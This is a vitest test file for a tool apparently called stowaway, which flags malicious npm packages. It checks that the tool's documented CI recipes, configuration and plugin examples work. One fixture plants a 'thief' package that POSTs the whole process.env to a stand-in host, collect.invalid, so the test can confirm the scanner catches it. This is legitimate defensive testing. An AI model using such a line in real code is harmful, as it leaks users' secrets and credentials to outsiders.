import { execFileSync } from 'node:child_process';
import { chmodSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, test } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { rules } from '../rules/index.js';
import { parseConfig, unknownRules } from '../src/config/parse.js';
import type { Config } from '../src/config/schema.js';
import { cleanUp, plant } from './fixtures/read/plant.js';

cleanUp();

/** Code blocks of a page, by language. */
function blocks(path: string, language: string): string[] {
  const found = [...readFileSync(path, 'utf8').matchAll(/^```(\w*)\n(.*?)^```$/gms)];
  return found.filter(([, is]) => is === language).map(([, , code]) => code as string);
}

/** A project in which `npx --no stowaway` is the command as it is built, and npm does nothing. */
function project(files: Readonly<Record<string, string | object>> = {}) {
  const dir = plant({
    'package.json': { name: 'mine', version: '1.0.0' },
    'package-lock.json': { lockfileVersion: 3, packages: { '': { name: 'mine' } } },
    'node_modules/good/package.json': { name: 'good', version: '1.0.0' },
    'node_modules/good/index.js': 'module.exports = 1;\n',
    'bin/npx': `#!/bin/sh\n[ "$1 $2" = "--no stowaway" ] || exit 99\nshift 2\nexec "${process.execPath}" "${resolve('dist/src/bin.js')}" "$@"\n`,
    'bin/npm': '#!/bin/sh\necho "npm $@"\n',
    'bin/stowaway': '#!/bin/sh\nexec npx --no stowaway "$@"\n',
    ...files,
  });
  for (const name of ['npx', 'npm', 'stowaway']) chmodSync(join(dir, 'bin', name), 0o755);
  const git = ['-c', 'user.name=a', '-c', 'user.email=a@b.invalid'];
  execFileSync('git', ['init', '-q'], { cwd: dir });
  execFileSync('git', ['add', 'package-lock.json'], { cwd: dir });
  execFileSync('git', [...git, 'commit', '-qm', 'a'], { cwd: dir });
  const env = {
    ...process.env,
    NO_COLOR: '1',
    STOWAWAY_CACHE: join(dir, 'cache'),
    PATH: `${dir}/bin:${process.env.PATH}`,
  };
  return { dir, run: (script: string) => execFileSync('sh', ['-ec', script], { cwd: dir, env, encoding: 'utf8' }) };
}

describe('the recipes', () => {
  const [actions, gitlab, precommit] = blocks('docs/recipes.md', 'yaml').map(text => parseYaml(text));

  test('for GitHub Actions and GitLab run the commands they give, and leave the files they name', () => {
    const steps = actions.jobs.stowaway.steps as readonly { run?: string; with?: { sarif_file?: string } }[];
    const lines = steps.flatMap(({ run }) => run ?? []);
    const { dir, run } = project();
    run([...lines, ...gitlab.packages.script].join('\n'));
    const sarif = steps.find(step => step.with?.sarif_file)?.with?.sarif_file as string;
    expect(JSON.parse(readFileSync(join(dir, sarif), 'utf8'))).toMatchObject({ version: '2.1.0' });
    expect(readFileSync(join(dir, gitlab.packages.artifacts.reports.junit), 'utf8')).toContain('<testsuite');
  });

  test('stop a build over a malicious package, after the report is written', () => {
    const thief = `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n`;
    const { dir, run } = project({
      'node_modules/thief/package.json': { name: 'thief', version: '1.0.0', main: 'index.js' },
      'node_modules/thief/index.js': thief,
    });
    expect(() => run('npx --no stowaway --format sarif --output stowaway.sarif --quiet')).toThrow();
    expect(readFileSync(join(dir, 'stowaway.sarif'), 'utf8')).toContain('sends-environment');
  });

  test('for pre-commit and for new entries of a lockfile have nothing to say when nothing is new', () => {
    const [entry] = precommit.repos[0].hooks;
    const since = blocks('docs/recipes.md', 'sh').find(text => text.includes('--since')) as string;
    expect(project().run(entry.entry)).toContain('No packages');
    expect(project().run(since)).toContain('No packages');
  });

  test('for pre-commit takes a lockfile that was never committed', () => {
    const [entry] = precommit.repos[0].hooks;
    const { run } = project({ 'package.json': { name: 'mine', workspaces: ['own'] } });
    run('git rm -q --cached package-lock.json; git -c user.name=a -c user.email=a@b.invalid commit -qm b');
    expect(run(entry.entry)).toContain('No packages');
  });

  test('for npm scripts hold commands that work', () => {
    const scripts = blocks('docs/recipes.md', 'json').map(text => JSON.parse(text).scripts as Record<string, string>);
    for (const line of scripts.flatMap(Object.values)) expect(() => project().run(line), line).not.toThrow();
  });

  test('for other tools is a program that vets an archive', async () => {
    const [code] = blocks('docs/recipes.md', 'js') as [string];
    const library = pathToFileURL(resolve('dist/src/index.js')).href;
    const dir = plant({
      'vet.mjs': code.replace("'stowaway'", JSON.stringify(library)),
      'run.mjs': `import { vet } from './vet.mjs'; vet('absent.tgz').catch(({ message }) => console.log(message));`,
    });
    expect(execFileSync(process.execPath, ['run.mjs'], { cwd: dir, encoding: 'utf8' })).toContain('absent.tgz');
  });
});

describe('the page about the configuration', () => {
  test('shows one that holds', () => {
    const [text] = blocks('docs/configuration.md', 'jsonc') as [string];
    const { config, mistakes } = parseConfig(text);
    expect(mistakes).toBeUndefined();
    expect(unknownRules(text, config as Config, Object.keys(rules))).toEqual([]);
  });

  test('shows a plugin that works', () => {
    const [code] = blocks('docs/configuration.md', 'js') as [string];
    const library = pathToFileURL(resolve('dist/src/define.js')).href;
    const { run } = project({
      'rules.mjs': code.replace("'stowaway/rule'", JSON.stringify(library)),
      'stowaway.config.json': { plugins: ['./rules.mjs'] },
      'node_modules/good/index.js': "require('https').get('https://rival.invalid/a');\n",
    });
    expect(run('npx --no stowaway --config stowaway.config.json')).toContain(
      'Sends something to https://rival.invalid/a',
    );
  });
});
